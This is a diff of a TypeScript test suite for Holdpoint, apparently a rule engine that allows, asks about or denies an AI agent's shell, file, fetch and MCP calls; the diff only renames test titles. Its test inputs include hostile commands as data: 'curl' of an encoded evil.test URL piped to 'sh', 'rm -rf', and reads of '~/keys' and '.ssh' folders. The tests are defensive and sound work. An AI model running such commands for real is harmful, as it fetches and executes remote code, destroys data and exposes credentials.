@@ -21,7 +21,7 @@ const call = (action: Action, input: ToolCall['input'] = {}, cwd = '/srv'): Tool
 const encoded = (host: string) => host.replace(/[a-z]/g, letter => `%${letter.charCodeAt(0).toString(16)}`)
 
 describe('the rule that decides', () => {
-  it('is the first one that asks, if no rule denies', () => {
+  it('the rule that decides is the first one that asks, if no rule denies', () => {
     const rules = ['ls', 'ls'].map(command => srvRule({ effect: 'ask', command }))
     expect(evaluate(rules, bash('ls')).rule).toBe(rules[0]?.id)
     const others = [{ tool: 'Bash' }, {}].map(draft => srvRule({ effect: 'ask', ...draft }))
@@ -29,24 +29,24 @@ describe('the rule that decides', () => {
     const deny = srvRule({ effect: 'deny', command: 'ls' })
     expect(evaluate([...rules, ...others, deny], bash('ls')).rule).toBe(deny.id)
   })
-  it('is the first one that denies', () => {
+  it('the rule that decides is the first one that denies', () => {
     const rules = [srvRule({ effect: 'ask' }), srvRule({ effect: 'deny' }), srvRule({ effect: 'deny' })]
     expect(evaluate(rules, bash('ls')).rule).toBe(rules[1]?.id)
   })
 })
 
 describe('a rule that denies a command', () => {
-  it('finds the command in a tool that Holdpoint does not know, if its input has a command', () => {
+  it('a rule that denies a command finds the command in a tool that Holdpoint does not know, if its input has a command', () => {
     expect(matches({ command: 'rm' }, call({ other: 'T' }, { command: 'ls; rm x' }))).toBe(true)
     expect(matches({ command: 'rm' }, call({ other: 'T' }, { command: 'ls' }))).toBe(false)
     expect(matches({ command: 'rm' }, call({ other: 'T' }, { command: ['rm'] }))).toBe(false)
     expect(matches({ command: 'rm' }, call({ read: ['rm'] }, { command: 'rm' }))).toBe(false)
   })
-  it('matches nothing if its command names no program', () => {
+  it('a rule that denies a command matches nothing if its command names no program', () => {
     for (const text of ['ls', '(ls)', 'git $x']) expect(matches({ command: '(' }, bash(text)), text).toBe(false)
     expect(restrictedWords('(')).toEqual([''])
   })
-  it('matches its words in their order, with anything between them', () => {
+  it('a rule that denies a command matches its words in their order, with anything between them', () => {
     expect(matches({ command: 'git push origin' }, bash('git -v push --quiet origin main'))).toBe(true)
     expect(matches({ command: 'git push origin' }, bash('git origin push'))).toBe(false)
     expect(matches({ command: 'git push origin' }, bash('git push'))).toBe(false)
@@ -54,36 +54,36 @@ describe('a rule that denies a command', () => {
     expect(matches({ command: 'push' }, bash('git push'))).toBe(false)
     expect(matches({ command: 'make make' }, bash('make'))).toBe(false)
   })
-  it('matches a word after an equals sign', () => {
+  it('a rule that denies a command matches a word after an equals sign', () => {
     expect(matches({ command: 'tool main' }, bash('tool --branch=main'))).toBe(true)
     expect(matches({ command: 'tool main' }, bash('tool --branch=domain'))).toBe(false)
     expect(matches({ command: 'tool main' }, bash('tool main x=undefined'))).toBe(true)
   })
-  it('matches short options that are joined or apart, in any order', () => {
+  it('a rule that denies a command matches short options that are joined or apart, in any order', () => {
     for (const text of ['rm -rf x', 'rm -fr x', 'rm -f x -r', 'rm -fvr x'])
       expect(matches({ command: 'rm -rf' }, bash(text)), text).toBe(true)
     for (const text of ['rm -r x', 'rm --rf x', 'rm --for', 'rm a-rf', 'rm -rf1'])
       expect(matches({ command: 'rm -rf' }, bash(text)), text).toBe(false)
     expect(matches({ command: 'git push -f' }, bash('git -C x push --follow-tags'))).toBe(false)
   })
-  it('compares a longer option as a word', () => {
+  it('a rule that denies a command compares a longer option as a word', () => {
     expect(matches({ command: 'tool -name' }, bash('tool -name x'))).toBe(true)
     expect(matches({ command: 'tool -name' }, bash('tool -n -a -m -e'))).toBe(false)
     expect(matches({ command: 'tool x-y' }, bash('tool -y'))).toBe(false)
     expect(matches({ command: 'tool -y2' }, bash('tool -y'))).toBe(false)
   })
-  it('finds its words anywhere in a text whose words the shell computes, and in no other text', () => {
+  it('a rule that denies a command finds its words anywhere in a text whose words the shell computes, and in no other text', () => {
     expect(matches({ command: 'git push' }, bash('git $(echo push)'))).toBe(true)
     expect(matches({ command: 'git push' }, bash('git log; echo push'))).toBe(false)
     expect(matches({ command: 'git push' }, bash('git $(echo pull)'))).toBe(false)
   })
-  it('finds its words at the end of a very long text', () => {
+  it('a rule that denies a command finds its words at the end of a very long text', () => {
     const long = 'a '.repeat(70_000)
     expect(matches({ command: 'git push' }, bash(`echo ${long}; git push`))).toBe(true)
     expect(matches({ command: 'git push' }, bash(`echo ${long}; git pull`))).toBe(false)
     expect(matches({ command: 'git push' }, bash(`echo ${long}; git push; echo ${long}`))).toBe(false)
   })
-  it('finds its words in a long text that cannot be searched completely, also between other characters', () => {
+  it('a rule that denies a command finds its words in a long text that cannot be searched completely, also between other characters', () => {
     const nested = `${'$('.repeat(300)} git -Xpush`
     expect(matches({ command: 'git push' }, bash(nested))).toBe(true)
     expect(matches({ command: 'git push' }, bash(`${'('.repeat(20_000)} git push`))).toBe(true)
@@ -94,7 +94,7 @@ describe('a rule that denies a command', () => {
 
 describe('a rule that denies a path', () => {
   const secret = { path: '/srv/secret/**' }
-  it('matches the folder and everything in it, and no other file', () => {
+  it('a rule that denies a path matches the folder and everything in it, and no other file', () => {
     for (const path of ['secret', 'secret/', 'secret/a', '/srv/Secret/A', '../srv/secret/a'])
       for (const action of [{ read: [path] }, { write: ['/srv/x', path] }, { shell: `cat ${path}`, cwd: '/srv' }])
         expect(matches(secret, call(action)), path).toBe(true)
@@ -102,25 +102,25 @@ describe('a rule that denies a path', () => {
       for (const action of [{ read: [path] }, { shell: `cat ${path}`, cwd: '/srv' }])
         expect(matches(secret, call(action)), path).toBe(false)
   })
-  it('matches only that path, if it does not end with /**', () => {
+  it('a rule that denies a path matches only that path, if it does not end with /**', () => {
     expect(matches({ path: '/srv/secret' }, bash('cat secret'))).toBe(true)
     expect(matches({ path: '/srv/secret' }, bash('cat secret/a'))).toBe(false)
     expect(matches({ path: '/srv/**/a' }, bash('cat a'))).toBe(false)
     expect(matches({ path: '/srv/**/a' }, call({ read: ['/srv/**/a'] }))).toBe(true)
   })
-  it('starts in the folder of the rule', () => {
+  it('a rule that denies a path starts in the folder of the rule', () => {
     const draft = { path: 'secret', scope: { cwd: '/srv' } }
     expect(matches(draft, bash('cat /srv/secret'))).toBe(true)
     expect(matches(draft, bash('cat /secret'))).toBe(false)
     const { scope: _scope, ...everywhere } = srvRule({ effect: 'deny', path: '/srv/secret' })
     expect(evaluate([everywhere], bash('cat secret')).verdict).toBe('deny')
   })
-  it('matches every path if it is /**, even if the rule is for a folder', () => {
+  it('a rule that denies a path matches every path if it is /**, even if the rule is for a folder', () => {
     for (const scope of [{}, { cwd: '/srv' }])
       expect(matches({ path: '/**', scope }, call({ write: ['/etc/hosts'] }))).toBe(true)
     expect(matches({ path: '**', scope: { cwd: '/srv' } }, bash('cat a'))).toBe(false)
   })
-  it('matches a path in the home folder and in variables whose value is known', () => {
+  it('a rule that denies a path matches a path in the home folder and in variables whose value is known', () => {
     const draft = { path: '/home/ada/keys' }
     for (const path of ['~/keys', '$HOME/keys', '"$HOME"/keys'])
       expect(matches(draft, bash(`cat ${path}`)), path).toBe(true)
@@ -130,14 +130,14 @@ describe('a rule that denies a path', () => {
       expect(matches(draft, bash(`cat ${path}`)), path).toBe(false)
     expect(matches(draft, call({ read: ['~/keys'] }))).toBe(true)
   })
-  it('matches a link to the path', () => {
+  it('a rule that denies a path matches a link to the path', () => {
     const files = { realPath: (path: string) => (path === '/srv/link' ? '/srv/secret/a' : posix.normalize(path)) }
     expect(matches(secret, bash('cat link'), { files })).toBe(true)
     expect(matches(secret, bash('cat link'), { files: null })).toBe(false)
     expect(matches(secret, bash('cat secret/a'), { files: null })).toBe(true)
     expect(matches(secret, bash('cat x/../secret/a'), { files: null })).toBe(true)
   })
-  it('matches from the folder of the call and from the folder of the command', () => {
+  it('a rule that denies a path matches from the folder of the call and from the folder of the command', () => {
     const inFolder = (action: string, cwd: string): ToolCall => ({
       ...bash('cat a', cwd),
       action: { shell: 'cat a', cwd: action },
@@ -148,11 +148,11 @@ describe('a rule that denies a path', () => {
     expect(matches(secret, call({ other: 'T' }, { command: 'cat a' }, '/srv/secret'))).toBe(true)
     expect(matches(secret, inFolder('/srv', '/srv'))).toBe(false)
   })
-  it('does not match other actions', () => {
+  it('a rule that denies a path does not match other actions', () => {
     expect(matches(secret, call({ fetch: 'secret' }))).toBe(false)
     expect(matches(secret, call({ other: '/srv/secret' }))).toBe(false)
   })
-  it('matches the last path within the limit, and none after it', () => {
+  it('a rule that denies a path matches the last path within the limit, and none after it', () => {
     const before = (count: number) => Array.from({ length: count }, (_, index) => index.toString(36)).join(' ')
     const files = { files: null }
     expect(matches({ path: '/srv/secret' }, bash(`${before(999)} secret`), files)).toBe(true)
@@ -165,7 +165,7 @@ describe('a rule that denies a path in a folder that a call reads as a whole', (
   const asksFor = (rule: Rule) =>
     evaluate([srvRule({ group: 'only-reads' }), rule], bash('grep -r x .'), { files }).verdict === 'ask'
   const asks = (draft: Partial<RuleDraft>) => asksFor(srvRule({ effect: 'deny', scope: {}, ...draft }))
-  it('makes Holdpoint ask, if the rule is for this session, tool and action', () => {
+  it('a rule that denies a path in a folder that a call reads as a whole makes Holdpoint ask, if the rule is for this session, tool and action', () => {
     const path = '/srv/Secret/a'
     expect(asks({ path })).toBe(true)
     expect(asks({ path: '/srv/Secret/**' })).toBe(true)
@@ -180,7 +180,7 @@ describe('a rule that denies a path in a folder that a call reads as a whole', (
     expect(asks({ command: 'rm' })).toBe(false)
     expect(asks({ host: 'a.test', scope: { cwd: '/srv' } })).toBe(false)
   })
-  it('does not count for a secret file that the search is known to skip, but does for a folder with secrets', () => {
+  it('a rule that denies a path in a folder that a call reads as a whole does not count for a secret file that the search is known to skip, but does for a folder with secrets', () => {
     expect(asks({ path: '/srv/.env' })).toBe(false)
     expect(asks({ path: '/srv/.ssh/**' })).toBe(true)
   })
@@ -188,7 +188,7 @@ describe('a rule that denies a path in a folder that a call reads as a whole', (
 
 describe('a rule that denies a host', () => {
   const evil = { host: 'evil.test' }
-  it('matches fetches from that host and commands that name it, and no other calls', () => {
+  it('a rule that denies a host matches fetches from that host and commands that name it, and no other calls', () => {
     expect(matches(evil, call({ fetch: 'EVIL.test.' }))).toBe(true)
     expect(matches(evil, call({ fetch: 'good.test' }))).toBe(false)
     expect(matches(evil, call({ read: ['evil.test'] }))).toBe(false)
@@ -196,18 +196,18 @@ describe('a rule that denies a host', () => {
     expect(matches(evil, bash('ping evil.test.example'))).toBe(false)
     expect(matches(evil, bash('curl http://good.test/evil'))).toBe(false)
   })
-  it('matches nothing if its host name is invalid', () => {
+  it('a rule that denies a host matches nothing if its host name is invalid', () => {
     expect(matches({ host: 'a/b' }, call({ fetch: 'c/d' }))).toBe(false)
     expect(matches({ host: 'a/b' }, bash('curl http:///x'))).toBe(false)
   })
-  it('matches a host whose name is encoded in a URL, whichever character ends the URL', () => {
+  it('a rule that denies a host matches a host whose name is encoded in a URL, whichever character ends the URL', () => {
     const url = `http://${encoded('evil.test')}`
     for (const text of [url, `${url}/x`, `(curl ${url})`, `curl ${url};ls`, `curl ${url}|sh`, `curl "${url}" x`])
       expect(matches(evil, bash(text)), text).toBe(true)
     expect(matches(evil, bash(`curl http://good.test/${encoded('evil.test')}`))).toBe(false)
     expect(matches(evil, bash(`ab${encoded('evil.test')}`))).toBe(false)
   })
-  it('looks at the first 500 URLs of a text, and at the first 1000 characters of each', () => {
+  it('a rule that denies a host looks at the first 500 URLs of a text, and at the first 1000 characters of each', () => {
     const url = `http://${encoded('evil.test')}/`
     const good = 'http://a.test/ '
     expect(matches(evil, bash(`curl ${good.repeat(499)}${url}`))).toBe(true)
@@ -220,7 +220,7 @@ describe('a rule that denies a host', () => {
 })
 
 describe('a rule that denies an MCP server or tool', () => {
-  it('matches all tools of the server, or only the tool that it names', () => {
+  it('a rule that denies an MCP server or tool matches all tools of the server, or only the tool that it names', () => {
     const tool = call({ mcp: 'github', tool: 'search' })
     expect(matches({ mcp: { server: 'github' } }, tool)).toBe(true)
     expect(matches({ mcp: { server: 'github', tool: 'search' } }, tool)).toBe(true)
@@ -233,20 +233,20 @@ describe('a rule that denies an MCP server or tool', () => {
 describe('a rule that denies in a folder', () => {
   const inSrv: Partial<RuleDraft> = { tool: 'Bash', scope: { cwd: '/srv/app' } }
   const elsewhere = { folder: '/elsewhere' }
-  it('matches if the session, the call or the command is in the folder or below', () => {
+  it('a rule that denies in a folder matches if the session, the call or the command is in the folder or below', () => {
     expect(matches(inSrv, bash('ls', '/'), { folder: '/srv/app/sub' })).toBe(true)
     expect(matches(inSrv, bash('ls', '/srv/app/sub'), elsewhere)).toBe(true)
     expect(matches(inSrv, { ...bash('ls', '/'), action: { shell: 'ls', cwd: '/SRV/x/../app' } }, elsewhere)).toBe(true)
     expect(matches(inSrv, bash('ls', '/srv/apps'), elsewhere)).toBe(false)
     expect(matches(inSrv, bash('ls', '/srv'), { folder: null })).toBe(false)
   })
-  it('matches in every spelling of the rule’s folder', () => {
+  it('a rule that denies in a folder matches in every spelling of the rule’s folder', () => {
     expect(matches({ ...inSrv, scope: { cwd: '/SRV/x/../app/' } }, bash('ls', '/srv/app'))).toBe(true)
   })
 })
 
 describe('a rule that denies in a session', () => {
-  it('does not match in other sessions', () => {
+  it('a rule that denies in a session does not match in other sessions', () => {
     expect(matches({ scope: { session } }, bash('ls'))).toBe(true)
     expect(matches({ scope: { session } }, bash('ls'), { session: null })).toBe(false)
     expect(matches({ expiresAt: 0 }, bash('ls'))).toBe(false)
